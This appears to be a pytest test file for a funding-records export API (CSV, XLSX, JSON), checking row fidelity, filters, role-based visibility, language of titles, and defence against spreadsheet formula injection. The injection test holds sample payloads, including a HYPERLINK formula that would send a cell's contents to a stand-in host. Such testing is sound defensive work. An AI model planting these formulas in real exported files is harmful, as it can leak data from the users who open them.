"""Funding exports of the API (GET /api/v1/funding/records/export.csv|xlsx|json and the window's
books): opened back with the csv module, openpyxl and json and compared with the API's own list to
the cent; the list's filters and ordering, the caller's visibility, one language of titles, and
notes that a spreadsheet could take for a formula."""

import io
import json
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from restrack.core.tests.api_helpers import client_as, read_csv, read_xlsx
from restrack.funding.actions import allocate_from_window, record_contribution, record_funding
from restrack.funding.tests.test_api import people, world  # noqa: F401  (the fixtures)
from restrack.registry.selectors import find_instrument

pytestmark = pytest.mark.django_db

AMOUNTS = [
    "requirements_usd",
    "mobilized_core_usd",
    "mobilized_earmarked_usd",
    "mobilized_window_usd",
    "mobilized_other_usd",
    "mobilized_usd",
]
HEADER = ["instrument", "title", "period", *AMOUNTS, "gap_usd", "surplus_usd", "gap_percent", "note"]


def as_role(world, role) -> APIClient:
    return client_as() if role == "anonymous" else client_as(world[role])


def as_text(key: str, value) -> str:
    """A cell as the CSV writes it: exact digits with two decimals for amounts (XLSX stores
    numbers: 500000 comes back as an int), empty for unknown."""
    if value is None:
        return ""
    if key.endswith("_usd") and not isinstance(value, str):
        return f"{Decimal(str(value)):.2f}"
    return str(value)


def exported(client, query: str, format: str) -> list[dict]:
    """The export's rows as text keyed by column, whatever the format."""
    response = client.get(f"/api/v1/funding/records/export.{format}?{query}")
    assert response.status_code == 200, response.content
    if format == "csv":
        return read_csv(response.getvalue())
    if format == "xlsx":
        return [{key: as_text(key, value) for key, value in row.items()} for row in read_xlsx(response.getvalue())]
    return [{key: as_text(key, value) for key, value in row.items()} for row in json.loads(response.getvalue())]


def listed(client, query: str) -> list[dict]:
    """The API's list as the export's columns (the gap column of a file is the shortfall)."""
    response = client.get(f"/api/v1/funding/records/?limit=1000&{query}")
    assert response.status_code == 200, response.json()
    return [
        {
            "instrument": r["instrument"],
            "period": r["period"],
            **{name: r[name] or "" for name in AMOUNTS},
            "gap_usd": r["shortfall_usd"] or "",
            "surplus_usd": r["surplus_usd"] or "",
            "note": r["note"],
        }
        for r in response.json()["results"]
    ]


def comparable(rows: list[dict]) -> list[dict]:
    keys = ["instrument", "period", *AMOUNTS, "gap_usd", "surplus_usd", "note"]
    return [{key: row[key] for key in keys} for row in rows]


# --- the same rows as the list, to the cent --------------------------------------------------------


@pytest.mark.parametrize("format", ["csv", "xlsx", "json"])
@pytest.mark.parametrize(
    "query",
    ["", "period=2024-H2&ordering=-gap", "under_funded=false&ordering=requirements", "instrument=resolution 2/7"],
)
def test_an_export_holds_the_lists_rows_to_the_cent(world, format, query):
    client = APIClient()
    rows = exported(client, query, format)
    assert list(rows[0]) == HEADER
    assert comparable(rows) == listed(client, query)


@pytest.mark.parametrize(
    ("format", "content_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("json", "application/json"),
    ],
)
def test_file_names_and_types(world, format, content_type):
    client = APIClient()
    response = client.get(f"/api/v1/funding/records/export.{format}?period=2024-h2")
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="restrack-funding-2024-H2.{format}"'
    every = client.get(f"/api/v1/funding/records/export.{format}")
    assert every["Content-Disposition"] == f'attachment; filename="restrack-funding.{format}"'


def test_amounts_are_numbers_in_xlsx_and_exact_strings_in_json(world):
    client = APIClient()
    (row,) = json.loads(client.get("/api/v1/funding/records/export.json?instrument=resolution 2/6").getvalue())
    assert (row["requirements_usd"], row["mobilized_usd"], row["gap_usd"], row["surplus_usd"]) == (
        "1858000.55",
        "858000.30",
        "1000000.25",
        "0.00",
    )
    assert row["mobilized_window_usd"] is None and row["gap_percent"] == 54
    sheet = load_workbook(
        io.BytesIO(client.get("/api/v1/funding/records/export.xlsx?instrument=resolution 2/6").getvalue())
    ).active
    assert sheet["D2"].data_type == "n" and sheet["D2"].number_format == "#,##0.00"
    assert Decimal(str(sheet["D2"].value)) == Decimal("1858000.55")


@pytest.mark.parametrize(
    ("role", "periods"),
    [
        ("anonymous", {"2024-H2"}),
        ("viewer", {"2024-H2"}),
        ("finance_officer", {"2024-H2", "2025-H1"}),
        ("coordinator", {"2024-H2", "2025-H1"}),
    ],
)
def test_an_export_shows_what_the_caller_may_see(world, role, periods):
    client = as_role(world, role)
    for format in ("csv", "xlsx", "json"):
        assert {row["period"] for row in exported(client, "", format)} == periods
    assert exported(client, "period=2025-H1", "json") == (
        [] if periods == {"2024-H2"} else exported(client, "period=2025-H1", "csv")
    )


def test_titles_in_the_language_asked_for(world):
    client = APIClient()
    chinese = exported(client, "instrument=resolution 2/7&lang=zh-hans", "csv")
    assert chinese[0]["title"] == "人人享有适当住房"
    english = exported(client, "instrument=resolution 2/7&lang=en", "xlsx")
    assert english[0]["title"] == "Adequate housing for all"
    by_header = client.get(
        "/api/v1/funding/records/export.json?instrument=resolution 2/7", HTTP_ACCEPT_LANGUAGE="zh-hans"
    )
    assert json.loads(by_header.getvalue())[0]["title"] == "人人享有适当住房"


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("period=2024-H3", "period"),
        ("instrument=treaty 1/1", "instrument"),
        ("under_funded=perhaps", "under_funded"),
        ("lang=xx", "lang"),
    ],
)
def test_a_bad_filter_exports_nothing_and_says_why(world, query, field):
    response = APIClient().get(f"/api/v1/funding/records/export.csv?{query}")
    assert response.status_code == 400
    assert field in response.json() and response.json()["detail"]


def test_an_unknown_format_is_not_an_export(world):
    assert APIClient().get("/api/v1/funding/records/export.pdf").status_code == 404


# --- formulas stay text --------------------------------------------------------------------------


@pytest.mark.parametrize("note", ['=HYPERLINK("http://example.org/x?"&A1,"Details")', "+1+2", "-3+4", "@SUM(A1)"])
def test_a_note_that_looks_like_a_formula_comes_back_as_text(world, note):
    record_funding(
        find_instrument("resolution 2/6"),
        world["published"],
        note=note,
        acting_user=world["finance_officer"],
        reason="A test of formula injection",
    )
    client = APIClient()
    query = "instrument=resolution 2/6"
    assert exported(client, query, "csv")[0]["note"] == "'" + note
    sheet = load_workbook(io.BytesIO(client.get(f"/api/v1/funding/records/export.xlsx?{query}").getvalue())).active
    cell = sheet["M2"]
    assert cell.value == "'" + note and cell.data_type == "s"
    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)
    assert exported(client, query, "json")[0]["note"] == note  # programs get the text as it is
    assert client.get(f"/api/v1/funding/records/?{query}").json()["results"][0]["note"] == note


# --- the window's books --------------------------------------------------------------------------


@pytest.fixture
def books(world):
    officer = world["finance_officer"]
    record_contribution(
        acting_user=officer,
        donor="=Government of Norway",
        received_on=date(2024, 1, 15),
        amount="1000000.00",
        currency="USD",
        note="+47 first",
    )
    record_contribution(
        acting_user=officer,
        donor="Sida",
        received_on=date(2024, 3, 1),
        amount="2750000.00",
        currency="SEK",
        amount_usd="250000.55",
    )
    allocate_from_window(
        acting_user=officer,
        instrument=find_instrument("resolution 2/6"),
        allocated_on=date(2024, 2, 1),
        amount_usd="400000.10",
        purpose="Pilot cities",
    )
    allocate_from_window(
        acting_user=officer,
        instrument=find_instrument("resolution 2/7"),
        allocated_on=date(2024, 4, 1),
        amount_usd="1.01",
        purpose="@profiles",
    )


def test_contributions_export_one_row_each(world, books):
    client = APIClient()
    listed_items = client.get("/api/v1/funding/window/contributions/?ordering=-amount_usd").json()["results"]
    rows = json.loads(client.get("/api/v1/funding/window/contributions/export.json?ordering=-amount_usd").getvalue())
    assert [
        {
            key: row[key]
            for key in (
                "id",
                "donor",
                "received_on",
                "amount",
                "currency",
                "amount_usd",
                "kind",
                "agreement_reference",
                "note",
            )
        }
        for row in rows
    ] == [
        {
            key: item[key]
            for key in (
                "id",
                "donor",
                "received_on",
                "amount",
                "currency",
                "amount_usd",
                "kind",
                "agreement_reference",
                "note",
            )
        }
        for item in listed_items
    ]
    assert rows[0]["donor"] == "=Government of Norway" and rows[0]["kind_label"] == "new contribution"
    csv_rows = read_csv(client.get("/api/v1/funding/window/contributions/export.csv?kind=new").getvalue())
    assert [(row["donor"], row["amount_usd"], row["note"]) for row in csv_rows] == [
        ("'=Government of Norway", "1000000.00", "'+47 first"),
        ("Sida", "250000.55", ""),
    ]
    response = client.get("/api/v1/funding/window/contributions/export.xlsx?donor=sida")
    assert response["Content-Disposition"] == 'attachment; filename="restrack-window-contributions.xlsx"'
    (row,) = read_xlsx(response.getvalue())
    assert (row["donor"], Decimal(str(row["amount"])), row["currency"]) == ("Sida", Decimal("2750000.00"), "SEK")
    assert client.get("/api/v1/funding/window/contributions/export.csv?kind=gift").status_code == 400


def test_allocations_export_one_row_each(world, books):
    client = APIClient()
    listed_items = client.get("/api/v1/funding/window/allocations/").json()["results"]
    rows = json.loads(client.get("/api/v1/funding/window/allocations/export.json?lang=zh-hans").getvalue())
    assert [(row["id"], row["instrument"], row["allocated_on"], row["amount_usd"], row["purpose"]) for row in rows] == [
        (item["id"], item["instrument"], item["allocated_on"], item["amount_usd"], item["purpose"])
        for item in listed_items
    ]
    assert rows[1]["title"] == "人人享有适当住房"
    csv_rows = read_csv(
        client.get("/api/v1/funding/window/allocations/export.csv?instrument=resolution 2/7").getvalue()
    )
    assert [(row["instrument"], row["amount_usd"], row["purpose"]) for row in csv_rows] == [
        ("resolution 2/7", "1.01", "'@profiles")
    ]
    dated = read_xlsx(
        client.get("/api/v1/funding/window/allocations/export.xlsx?allocated_on_before=2024-03-01").getvalue()
    )
    assert [(row["instrument"], row["allocated_on"].date()) for row in dated] == [("resolution 2/6", date(2024, 2, 1))]
